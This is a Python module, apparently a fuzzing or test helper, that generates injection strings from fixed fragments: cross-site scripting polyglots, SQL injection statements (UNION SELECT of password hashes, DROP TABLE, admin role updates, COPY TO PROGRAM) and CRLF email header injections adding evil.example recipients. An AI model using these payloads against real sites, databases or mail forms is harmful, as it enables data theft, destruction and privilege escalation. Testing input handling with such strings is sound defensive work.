"""Words that would like to be something else: scripts, statements, headers; combined of fragments in a fixed order."""

from __future__ import annotations

import random
from itertools import product

# Each sets window.pwned when it runs, or makes an element that the pages have no use for.
_CALLS = ("window.pwned=1", "pwned=1", "self['pwned']=1", "top.pwned=1", "(()=>{pwned=1})()", "eval('pwned=1')")
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "`", "\\x22>", "%00")
_TAGS = (
    "<script>{}</script>",
    "<script/x>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<img src='x'onerror='{}'>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<body onpageshow={}>",
    "<video><source onerror={}></video>",
    "<math href=javascript:{}>x</math>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<style>@import 'javascript:{}'</style>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<link rel=stylesheet href=javascript:{}>",
    "<template><script>{}</script></template>",
    "javascript:{}",
    "JaVaScRiPt:{}//",
    "data:text/html,<script>{}</script>",
    "[x](javascript:{})",
    "![x](javascript:{})",
    "<https://x.example/onmouseover={}>",
    "https://x.example/'onmouseover={}//",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<!--><script>{}</script>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<select><style></select><img src onerror={}></style>",
)

_QUOTES = ("'", '"', "`", "')", '")', "';", "\\'", "%27", "\u02bc", "1", "")
_STATEMENTS = (
    "OR 1=1",
    "OR '1'='1",
    "AND 1=0 UNION SELECT token_hash FROM visitors",
    "UNION SELECT NULL,NULL,NULL",
    "; DROP TABLE messages",
    "; DELETE FROM conversations",
    "; UPDATE agents SET role='admin'",
    "; INSERT INTO facts VALUES('pwned','1')",
    "; ATTACH DATABASE 'pwned.db' AS p",
    "|| (SELECT password_hash FROM agents) ||",
    "AND randomblob(100000000)",
    "; SELECT pg_sleep(10)",
    "; COPY facts TO PROGRAM 'id'",
    "HAVING 1=1",
    "LIKE '%",
    "ESCAPE '",
)
_LINE_BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85", "\x0b", "\x00", "\r\n ", "=0D=0A", "\r\n\r\n", "\n.\n")
_HEADERS = (
    "Bcc: mallory@evil.example",
    "To: mallory@evil.example",
    "Cc: a@evil.example, b@evil.example",
    "Subject: you have won",
    "From: bank@evil.example",
    "Content-Type: text/html",
    "Content-Transfer-Encoding: base64",
    "MIME-Version: 1.0",
    "RCPT TO:<mallory@evil.example>",
    ".",
    "--===============0==",
    "=?utf-8?q?=0ABcc:_mallory=40evil.example?=",
)
_ENDS = ("", "--", "/*", "#", ";", "-- -", "'")


def polyglots(count: int) -> list[str]:
    """Return so many texts that would be markup or script where somebody forgot to escape them."""
    return _some([b + t.format(c) for b, t, c in product(_BREAKS, _TAGS, _CALLS)], count)


def statements(count: int) -> list[str]:
    """Return so many texts that would be SQL where somebody pasted them into a statement."""
    return _some([f"{q} {s}{e}" for q, s, e in product(_QUOTES, _STATEMENTS, _ENDS)], count)


def headers(count: int) -> list[str]:
    """Return so many texts that would be another header, letter or recipient where somebody pasted them into one."""
    return _some([f"{end}{header}" for end, header in product(_LINE_BREAKS, _HEADERS)], count)


def _some(every: list[str], count: int) -> list[str]:
    """Return `count` of them, spread over all fragments; the same ones each time."""
    return random.Random(9).sample(every, count)
